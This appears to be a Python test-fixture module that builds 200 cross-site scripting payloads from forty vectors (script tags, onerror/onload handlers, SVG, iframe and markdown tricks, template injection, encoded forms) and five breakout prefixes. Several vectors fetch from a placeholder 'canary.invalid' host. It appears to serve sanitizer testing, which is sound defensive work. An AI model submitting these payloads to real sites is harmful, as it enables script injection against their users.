"""Two hundred texts that would run a script, ask another site for something, or open a dialog, if a page let them."""

CANARY = "canary.invalid"
_URL = f"//{CANARY}/"
# What comes before, to leave the place the text was put into.
_WAYS_OUT = ("", '">', "'>", "</script>", "--></style></title></textarea>")
_VECTORS = (
    "<script>alert(1)</script>",
    f"<script src={_URL}s></script>",
    f"<ScRiPt SrC={_URL}c></sCrIpT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    f"<img src={_URL}i>",
    f"<img src=x onerror=fetch('{_URL}e')>",
    "<img src=x onerror=alert(3)>",
    "<img/src=`x`onerror=alert`4`>",
    f"<image href={_URL}m src={_URL}n>",
    f"<picture><source srcset={_URL}p><img></picture>",
    "<svg onload=alert(5)>",
    f"<svg><image href={_URL}v /></svg>",
    "<svg><animate onbegin=alert(6) attributeName=x dur=1s>",
    f"<svg><use href={_URL}u#x></use></svg>",
    "<svg><script>alert(7)</script></svg>",
    "<math><mtext><img src=x onerror=alert(8)></mtext></math>",
    f"<iframe src={_URL}f></iframe>",
    '<iframe srcdoc="<script>parent.alert(9)</script>"></iframe>',
    "<iframe src=javascript:alert(10)></iframe>",
    f"<object data={_URL}o></object>",
    f"<embed src={_URL}b>",
    f"<link rel=stylesheet href={_URL}l>",
    f"<link rel=prefetch href={_URL}r>",
    f"<style>@import url({_URL}y);</style>",
    f"<div style=background:url({_URL}d)>x</div>",
    f"<meta http-equiv=refresh content=0;url={_URL}h>",
    f"<base href={_URL}>",
    "<body onload=alert(11)>",
    "<input autofocus onfocus=alert(12)>",
    "<details open ontoggle=alert(13)>x</details>",
    "<marquee onstart=alert(14)>x</marquee>",
    f"<video poster={_URL}q autoplay><source onerror=alert(15)></video>",
    f"<audio src={_URL}a autoplay onerror=alert(16)>",
    "<a href=javascript:alert(17) autofocus onfocus=alert(18)>x</a>",
    f"<form action={_URL}t><button autofocus onfocus=click()>x</button></form>",
    f"![x]({_URL}w) [y](javascript:alert(19))",
    f"![x](http:{_URL}x.png) <http:{_URL}z>",
    f"{{{{constructor.constructor('alert(20)')()}}}} ${{fetch('{_URL}k')}}",
    "&lt;script&gt;alert(21)&lt;/script&gt; &#60;img src=x onerror=alert(22)&#62;",
    "\\u003cscript\\u003ealert(23)\\u003c/script\\u003e %3Cscript%3Ealert(24)%3C/script%3E",
)
PAYLOADS = tuple(way_out + vector for vector in _VECTORS for way_out in _WAYS_OUT)
"""Each is one line of at most two hundred characters, so that a business can be called by it."""
